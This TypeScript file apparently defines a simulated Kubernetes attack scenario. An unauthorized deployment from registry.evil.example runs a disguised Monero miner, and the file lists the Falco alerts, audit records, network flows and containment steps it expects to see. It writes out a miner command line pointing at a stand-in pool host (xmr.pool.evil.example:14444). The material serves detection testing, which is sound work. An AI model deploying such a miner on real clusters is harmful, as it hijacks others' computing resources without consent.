import { K } from '../../api/known-types.js';
import type { Pod } from '../../api/types.js';
import { DEPLOYER_IDENTITY } from '../../cluster/app-model.js';
import { HUMAN_USERS } from '../../cluster/demo-extras.js';
import { RULES } from '../../falco/rules.js';
import { matchesLabelSelector } from '../../store/selectors.js';
import type { ScenarioDefinition, ScenarioRun } from '../kit.js';

const NAME = 'node-metrics-agent';
const IMAGE = 'registry.evil.example/ops/node-metrics-agent:1.0';
const POOL = { name: 'xmr.pool.evil.example', ip: '192.0.2.45', port: 14444, protocol: 'TCP' as const };

export const rogueWorkload: ScenarioDefinition = {
  info: {
    name: 'rogue-workload',
    title: 'Workload from an unknown registry deployed outside the pipeline',
    description:
      `${HUMAN_USERS.platformEngineer.username} (a person, not the delivery pipeline ${DEPLOYER_IDENTITY}) creates Deployment monitoring/${NAME} with image ${IMAGE}. Its pods run a disguised miner that connects to ${POOL.name}:${POOL.port}.`,
    expected: {
      falcoRules: [RULES.deploymentCreated.rule, RULES.disallowedContainer.rule, RULES.knownMiner.rule, RULES.minerPoolPorts.rule],
      audit: [{ verb: 'create', resource: 'deployments', user: HUMAN_USERS.platformEngineer.username, note: `monitoring/${NAME}, image from registry.evil.example (not a known registry), created by a person instead of ${DEPLOYER_IDENTITY}` }],
      flows: [`monitoring/${NAME} pods → ${POOL.name} (${POOL.ip}):${POOL.port}`],
      mitre: ['T1610', 'T1496'],
    },
    containment: [`Scale monitoring/${NAME} to 0 or delete it: the pods go and everything stops`, 'NetworkPolicy denying the pods egress: pool flows become DROPPED and the network alert stops'],
    actor: { namespace: 'monitoring', workload: NAME, kind: 'Deployment', container: NAME, user: HUMAN_USERS.platformEngineer.username },
  },
  start(run: ScenarioRun) {
    run.deps.traffic.topology.registerExternal(POOL);
    const opts = { token: run.deps.tokens.platformEngineer, userAgent: 'kubectl/v1.32.0 (darwin/arm64) kubernetes/70d3cc9', sourceIp: '10.20.4.17' };
    const labels = { 'app.kubernetes.io/name': NAME };
    const announced = new Set<string>();
    run.phase('deploying');
    void run.api('POST', '/apis/apps/v1/namespaces/monitoring/deployments?fieldManager=kubectl-create', opts, {
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: NAME, namespace: 'monitoring', labels },
      spec: {
        replicas: 1,
        selector: { matchLabels: labels },
        template: {
          metadata: { labels },
          spec: { containers: [{ name: NAME, image: IMAGE, args: ['--metrics-port=9100'], resources: { requests: { cpu: '10m', memory: '32Mi' } } }] },
        },
      },
    });
    run.every(8000, () => {
      const pods = (run.sim.store.list(K.Pod, 'monitoring') as Pod[]).filter((p) => p.status?.phase === 'Running' && !p.metadata.deletionTimestamp && matchesLabelSelector(p.metadata.labels, { matchLabels: labels }));
      if (pods.length === 0) {
        if (run.status.iterations > 1) {
          run.setContained(true, run.sim.store.get(K.Deployment, 'monitoring', NAME) ? 'scaled to zero' : 'deployment deleted');
          run.phase('contained: no pods');
        }
        return;
      }
      run.status.actor.pod = pods[0]?.metadata.name;
      let anyAllowed = false;
      for (const pod of pods) {
        const cmdline = `${NAME} --donate-level 1 -o stratum+tcp://${POOL.name}:${POOL.port} --coin monero`;
        if (!announced.has(pod.metadata.uid)) {
          announced.add(pod.metadata.uid);
          const container = run.sim.runtime.container(pod, NAME);
          if (container) run.sim.runtime.addProcess(container, `/usr/local/bin/${cmdline}`, 'root', 197.2, 1900, 0);
          const fields = { 'evt.type': 'execve', 'user.name': 'root', 'user.uid': 0, 'proc.name': NAME.slice(0, 15), 'proc.exepath': `/usr/local/bin/${NAME}`, 'proc.pname': 'containerd-shim', 'proc.cmdline': cmdline };
          run.alert(RULES.disallowedContainer, pod, fields);
          run.alert(RULES.knownMiner, pod, fields);
        }
        const result = run.connect(pod, POOL.name, POOL.port);
        if (result.verdict === 'allowed') {
          anyAllowed = true;
          run.alert(RULES.minerPoolPorts, pod, { 'evt.type': 'connect', 'user.name': 'root', 'user.uid': 0, 'proc.name': NAME.slice(0, 15), 'proc.exepath': `/usr/local/bin/${NAME}`, 'proc.pname': 'containerd-shim', 'proc.cmdline': cmdline, 'fd.name': `${pod.status?.podIP}:39114->${POOL.ip}:${POOL.port}`, 'fd.rip': POOL.ip, 'fd.rport': POOL.port, 'fd.l4proto': 'tcp' });
        }
      }
      run.setContained(!anyAllowed, anyAllowed ? undefined : 'egress to the pool denied by NetworkPolicy');
      run.phase(anyAllowed ? 'mining' : 'contained: egress blocked');
    });
  },
};
